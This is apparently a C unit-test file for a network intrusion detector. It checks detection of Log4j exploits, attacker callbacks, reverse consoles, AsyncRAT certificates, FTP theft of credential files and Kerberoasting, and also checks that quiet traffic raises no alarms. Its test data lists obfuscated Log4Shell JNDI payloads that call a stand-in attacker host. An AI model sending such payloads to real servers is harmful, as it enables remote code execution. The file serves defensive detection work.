/* SPDX-License-Identifier: GPL-2.0-or-later */
#include "timeline.h"

static void serve(struct timeline *t, const char *server, int n, double from, double every)
{
	char peer[32];
	for (int i = 0; i < n; i++) {
		snprintf(peer, sizeof(peer), "198.51.100.%d", 1 + i % 200);
		struct msg_flow f = flow_between(peer, server, 443, APP_TLS, from + i * every);
		timeline_flow(t, &f);
	}
}

static void request(
    struct timeline *t, const char *from, const char *to, enum field field, const char *value, double at)
{
	struct msg_flow f = flow_between(from, to, 8080, APP_HTTP, at);
	timeline_transaction(t, &f, at, FIELD_HTTP_METHOD, "GET", FIELD_HTTP_URI,
	    field == FIELD_HTTP_URI ? value : "/", field == FIELD_HTTP_URI ? FIELD_NONE : (int)field, value,
	    FIELD_NONE);
	timeline_flow(t, &f);
}

static void lookups_of_log4j_are_read_through_their_disguise(void **state)
{
	(void)state;
	static const char *const values[] = {"${jndi:ldap://203.0.113.9/a}",
	    "${${lower:j}ndi:${lower:l}dap://203.0.113.9/a}",
	    "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.9/a}", "%24%7Bjndi:ldap://203.0.113.9/a%7D",
	    "x${${env:NOTHING:-j}ndi:dns://203.0.113.9}", "%2524%257Bjndi:ldap://203.0.113.9/%257D"};
	for (size_t i = 0; i < sizeof(values) / sizeof(*values); i++) {
		struct timeline *t = timeline_new();
		request(t, "203.0.113.9", "10.3.0.1", FIELD_HTTP_USER_AGENT, values[i], 1);
		const struct seen *s = timeline_find(t, "exploit.log4j", "10.3.0.1");
		if (!s)
			print_message("%s\n", values[i]);
		assert_non_null(s);
		assert_string_equal(s->technique, "T1190");
		assert_int_equal(s->asset_role, MSG_ROLE_TARGET); /* nothing says that it worked */
		timeline_free(t);
	}
}

static void ordinary_requests_carry_no_exploit(void **state)
{
	(void)state;
	static const char *const values[] = {"/search?q=wget+and+curl+manual&page=2", "/static/../style.css",
	    "/api?price=${amount}", "/a%20b%2Bc", "/shell/history?cmd=list", "/jndi:/x", "/?x={jndi}",
	    "/;jsessionid=1f", "/powered?by=shell"};
	struct timeline *t = timeline_new();
	for (size_t i = 0; i < sizeof(values) / sizeof(*values); i++)
		request(t, "198.51.100.9", "10.3.0.1", FIELD_HTTP_URI, values[i], (double)i);
	timeline_finish(t, 20);
	assert_int_equal(t->n, 0);
	timeline_free(t);
}

/* The lookup, and half a second later the server asks the attacker's directory: it worked. Either may end
 * first. */
static void exploit_and_callback_make_a_victim_in_any_order(void **state)
{
	(void)state;
	for (int order = 0; order < 2; order++) {
		struct timeline *t = timeline_new();
		struct msg_flow back = flow_between("10.3.0.1", "203.0.113.10", 1389, APP_LDAP, 100.5);
		serve(t, "10.3.0.1", 5, 0, 10);
		if (order)
			timeline_flow(t, &back);
		request(t, "203.0.113.9", "10.3.0.1", FIELD_HTTP_USER_AGENT,
		    "${jndi:ldap://203.0.113.10:1389/a}", 100);
		if (!order)
			timeline_flow(t, &back);
		timeline_finish(t, 200);
		const struct seen *s = timeline_find(t, "entry.callback", "10.3.0.1");
		assert_non_null(s);
		assert_int_equal(s->asset_role, MSG_ROLE_VICTIM);
		assert_int_equal(s->peer_role, MSG_ROLE_ATTACKER);
		assert_true(s->confidence >= 0.8);
		assert_int_equal(s->n_flows, 2);
		timeline_free(t);
	}
}

/* The exploit names whom to call: then it matters neither that all are inside nor that others are called as
 * well. */
static void server_that_calls_whom_the_exploit_named_was_entered(void **state)
{
	(void)state;
	for (int hit = 0; hit < 2; hit++) {
		struct timeline *t = timeline_new();
		struct msg_flow f = flow_between(
		    "10.3.0.1", hit ? "10.1.0.66" : "10.2.0.5", 1389, APP_LDAP, 100.5);
		timeline_flow(t, &f);
		request(
		    t, "10.1.0.9", "10.3.0.1", FIELD_HTTP_USER_AGENT, "${jndi:ldap://10.1.0.66:1389/a}", 100);
		timeline_finish(t, 200);
		assert_int_equal(timeline_find(t, "entry.callback", "10.3.0.1") != NULL, hit);
		assert_int_equal(timeline_find(t, "entry.callback", "10.1.0.9") != NULL, hit);
		timeline_free(t);
	}
}

/* What was asked is encrypted; that a server which never called out calls its asker is seen all the same. */
static void server_that_never_called_and_calls_its_asker_was_entered(void **state)
{
	(void)state;
	struct timeline *t = timeline_new();
	serve(t, "10.3.0.1", 20, 0, 30);
	struct msg_flow in = flow_between("203.0.113.9", "10.3.0.1", 443, APP_TLS, 1000);
	timeline_flow(t, &in);
	struct msg_flow out = flow_between("10.3.0.1", "203.0.113.9", 4444, APP_UNKNOWN, 1002);
	timeline_flow(t, &out);
	const struct seen *s = timeline_find(t, "entry.callback", "10.3.0.1");
	assert_non_null(s);
	assert_true(s->confidence >= 0.6);
	timeline_free(t);
}

static void callbacks_of_protocols_that_call_back_are_ordinary(void **state)
{
	(void)state;
	struct timeline *t = timeline_new();
	serve(t, "10.3.0.1", 20, 0, 30);
	struct msg_flow f = flow_between("198.51.100.9", "10.3.0.1", 21, APP_FTP, 1000);
	timeline_flow(t, &f);
	f = flow_between("10.3.0.1", "198.51.100.9", 50123, APP_FTP_DATA, 1001);
	f.initiator_port = 20;
	f.related = 5;
	f.flags |= FLOW_EXPECTED;
	timeline_flow(t, &f);
	f = flow_between("198.51.100.25", "10.3.0.1", 25, APP_SMTP, 2000);
	timeline_flow(t, &f);
	f = flow_between("10.3.0.1", "198.51.100.25", 25, APP_SMTP, 2001);
	timeline_flow(t, &f);
	f = flow_between("10.3.0.1", "198.51.100.9", 113, APP_UNKNOWN, 1001);
	timeline_flow(t, &f);
	timeline_finish(t, 3000);
	assert_null(timeline_find(t, "entry.callback", NULL));
	timeline_free(t);
}

/* A web server that fetches updates each night, while people ask it things. */
static void servers_that_call_out_by_habit_are_ordinary(void **state)
{
	(void)state;
	struct timeline *t = timeline_new();
	for (int day = 0; day < 5; day++) {
		serve(t, "10.3.0.1", 200, day * 86400.0, 400);
		struct msg_flow f = flow_between(
		    "10.3.0.1", "198.51.100.250", 443, APP_TLS, day * 86400.0 + 10801);
		f.name = TEXT("deb.debian.org");
		timeline_flow(t, &f);
	}
	timeline_finish(t, 5 * 86400.0);
	assert_true(timeline_suspicion(t, "10.3.0.1") < 0.5);
	timeline_free(t);
}

static void typed_session_carried_out_of_a_server_is_a_console(void **state)
{
	(void)state;
	static const char *const who[] = {"10.3.0.1", "10.1.0.77"};
	struct timeline *t = timeline_new();
	serve(t, "10.3.0.1", 10, 0, 10);
	for (int i = 0; i < 2; i++) {
		struct msg_flow f = flow_between(who[i], "203.0.113.9", 9001, APP_UNKNOWN, 500);
		f.last = AT(520);
		f.packets_out = 178;
		f.packets_in = 176;
		f.payload_out = 1800;
		f.payload_in = 700;
		timeline_flow(t, &f);
		f = flow_between(who[i], "203.0.113.8", 443, APP_TLS, 500);
		f.last = AT(900);
		timeline_flow(t, &f);
	}
	timeline_finish(t, 1000);
	const struct seen *server = timeline_find(t, "interactive", "10.3.0.1");
	const struct seen *client = timeline_find(t, "interactive", "10.1.0.77");
	assert_non_null(server);
	assert_non_null(client);
	assert_true(server->confidence > client->confidence && client->confidence < 0.25);
	timeline_free(t);
}

static void default_certificates_and_stolen_files_are_named(void **state)
{
	(void)state;
	struct timeline *t = timeline_new();
	struct msg_flow f = flow_between("10.1.0.9", "203.0.113.9", 6606, APP_TLS, 1);
	timeline_transaction(t, &f, 1, FIELD_TLS_SUBJECT, "CN=AsyncRAT Server", FIELD_TLS_ISSUER,
	    "CN=AsyncRAT Server", FIELD_NONE);
	timeline_flow(t, &f);
	f = flow_between("10.1.0.9", "203.0.113.21", 21, APP_FTP, 2);
	timeline_transaction(
	    t, &f, 2, FIELD_FTP_COMMAND, "STOR", FIELD_FTP_ARGUMENT, "PW_ann-PC_2023_11.html", FIELD_NONE);
	timeline_flow(t, &f);
	timeline_finish(t, 10);
	assert_true(timeline_find(t, "c2.certificate", "10.1.0.9")->confidence >= 0.8);
	const struct seen *s = timeline_find(t, "theft.credentials-carried", "10.1.0.9");
	assert_true(s && s->confidence > 0.5);
	assert_string_equal(s->technique, "T1048.003");
	timeline_free(t);
}

static void many_rc4_tickets_are_roasting_and_one_is_not(void **state)
{
	(void)state;
	struct timeline *t = timeline_new();
	char service[32];
	for (int i = 0; i < 10; i++) {
		struct msg_flow f = flow_between("10.1.0.9", "10.4.0.10", 88, APP_KERBEROS, i);
		snprintf(service, sizeof(service), "MSSQLSvc/db%d", i);
		timeline_transaction(t, &f, i, FIELD_KRB_TYPE, "KRB_TGS_REP", FIELD_KRB_SERVICE, service,
		    FIELD_KRB_ETYPE, "rc4-hmac", FIELD_NONE);
		timeline_transaction(t, &f, i, FIELD_KRB_TYPE, "KRB_TGS_REP", FIELD_KRB_SERVICE, service,
		    FIELD_KRB_ETYPE, "aes256-cts-hmac-sha1-96", FIELD_NONE);
		timeline_flow(t, &f);
		f = flow_between("10.1.0.8", "10.4.0.10", 88, APP_KERBEROS, i);
		timeline_transaction(t, &f, i, FIELD_KRB_TYPE, "KRB_TGS_REP", FIELD_KRB_SERVICE, "HTTP/old",
		    FIELD_KRB_ETYPE, "rc4-hmac", FIELD_NONE);
		timeline_flow(t, &f);
	}
	timeline_finish(t, 20);
	const struct seen *s = timeline_find(t, "kerberos.roasting", "10.1.0.9");
	assert_non_null(s);
	assert_int_equal(s->count, 10);
	assert_null(timeline_find(t, "kerberos.roasting", "10.1.0.8"));
	timeline_free(t);
}

/* A day of an organization in which nothing is wrong; see doc/detect.md for what it holds. */
static void quiet_day(struct timeline *t)
{
	char host[32], to[32], name[48];
	for (int minute = 0; minute < 24 * 60; minute++) {
		double at = minute * 60.0;
		/* people browse, each a little; all poll the time and an update server */
		for (int h = 1; h <= 10; h++) {
			snprintf(host, sizeof(host), "10.1.0.%d", h);
			struct msg_flow f = flow_between(host, "198.51.100.123", 123, APP_NTP, at + h);
			f.protocol = 17;
			if (minute % 17 == 0)
				timeline_flow(t, &f);
			if ((minute * 7 + h * 13) % 29 == 0) {
				snprintf(to, sizeof(to), "198.51.100.%d", 1 + (minute * 31 + h * 7) % 90);
				snprintf(
				    name, sizeof(name), "www.site%d.example", (minute * 31 + h * 7) % 90);
				f = flow_between(host, to, 443, APP_TLS, at + (minute * 37 + h) % 55);
				f.payload_out = 400 + (uint64_t)((minute * 97 + h * 31) % 9000);
				f.payload_in = 20000;
				f.name = text_of(name);
				timeline_flow(t, &f);
				timeline_dns(t, host, name, "A", "NOERROR", at);
			}
			f = flow_between(host, "198.51.100.200", 443, APP_TLS, at + h);
			f.name = TEXT("update.vendor.example");
			if (minute % 60 == h)
				timeline_flow(t, &f);
			/* work on the file server */
			f = flow_between(host, "10.2.0.5", 445, APP_SMB, at + 20 + h);
			f.payload_in = 100000;
			if ((minute + h) % 120 == 0)
				timeline_flow(t, &f);
		}
		/* monitoring: each five minutes a look at every server, by ssh and echo */
		for (int h = 1; h <= 6 && minute % 5 == 0; h++) {
			snprintf(to, sizeof(to), "10.2.0.%d", h);
			struct msg_flow f = flow_between("10.4.0.3", to, 22, APP_SSH, at + h);
			timeline_transaction(t, &f, at + h, FIELD_AUTH_USER, "monitor", FIELD_AUTH_RESULT,
			    "success", FIELD_NONE);
			timeline_flow(t, &f);
		}
	}
}

static void nothing_of_a_quiet_day_comes_near_an_incident(void **state)
{
	(void)state;
	struct timeline *t = timeline_new();
	char host[32], to[32];
	quiet_day(t);
	/* an administrator goes round; somebody mistypes; a server is down for a while */
	for (int i = 1; i <= 6; i++) {
		snprintf(to, sizeof(to), "10.2.0.%d", i);
		struct msg_flow f = flow_between("10.4.0.2", to, 22, APP_SSH, 30000 + i * 300);
		timeline_transaction(t, &f, 30000 + i * 300, FIELD_AUTH_RESULT, "success", FIELD_NONE);
		timeline_flow(t, &f);
		f = flow_between("10.1.0.4", "10.2.0.2", 22, APP_SSH, 40000 + i * 8);
		timeline_transaction(t, &f, 40000 + i * 8, FIELD_AUTH_USER, "ann", FIELD_AUTH_RESULT,
		    i < 4 ? "failure" : "success", FIELD_NONE);
		timeline_flow(t, &f);
		for (int h = 1; h <= 10; h++) {
			snprintf(host, sizeof(host), "10.1.0.%d", h);
			f = flow_failed(host, "10.2.0.5", 445, 50000 + i * 10 + h, false);
			timeline_flow(t, &f);
		}
	}
	/* the nightly copy to the backup server, and its copy to a provider; a large upload of somebody to a
	 * cloud */
	struct msg_flow f = flow_between("10.4.0.9", "10.2.0.5", 22, APP_SSH, 80000);
	f.payload_in = UINT64_C(4000000000);
	f.last = AT(82000);
	timeline_flow(t, &f);
	f = flow_between("10.4.0.9", "198.51.100.240", 22, APP_SSH, 82100);
	f.payload_out = UINT64_C(4000000000);
	f.last = AT(84000);
	timeline_flow(t, &f);
	f = flow_between("10.1.0.6", "198.51.100.241", 443, APP_TLS, 45000);
	f.payload_out = 60000000;
	f.name = TEXT("drive.cloud.example");
	timeline_flow(t, &f);
	timeline_finish(t, 86400);
	for (size_t i = 0; i < t->n; i++) {
		char asset[NET_ADDR_TEXT_SIZE];
		net_addr_text(t->seen[i].asset, asset);
		if (t->seen[i].confidence >= 0.5 || timeline_suspicion(t, asset) >= 0.5)
			timeline_print(t);
		assert_true(t->seen[i].confidence < 0.5);
		assert_true(timeline_suspicion(t, asset) < 0.5);
	}
	timeline_free(t);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(lookups_of_log4j_are_read_through_their_disguise),
	    cmocka_unit_test(ordinary_requests_carry_no_exploit),
	    cmocka_unit_test(exploit_and_callback_make_a_victim_in_any_order),
	    cmocka_unit_test(server_that_calls_whom_the_exploit_named_was_entered),
	    cmocka_unit_test(server_that_never_called_and_calls_its_asker_was_entered),
	    cmocka_unit_test(callbacks_of_protocols_that_call_back_are_ordinary),
	    cmocka_unit_test(servers_that_call_out_by_habit_are_ordinary),
	    cmocka_unit_test(typed_session_carried_out_of_a_server_is_a_console),
	    cmocka_unit_test(default_certificates_and_stolen_files_are_named),
	    cmocka_unit_test(many_rc4_tickets_are_roasting_and_one_is_not),
	    cmocka_unit_test(nothing_of_a_quiet_day_comes_near_an_incident),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
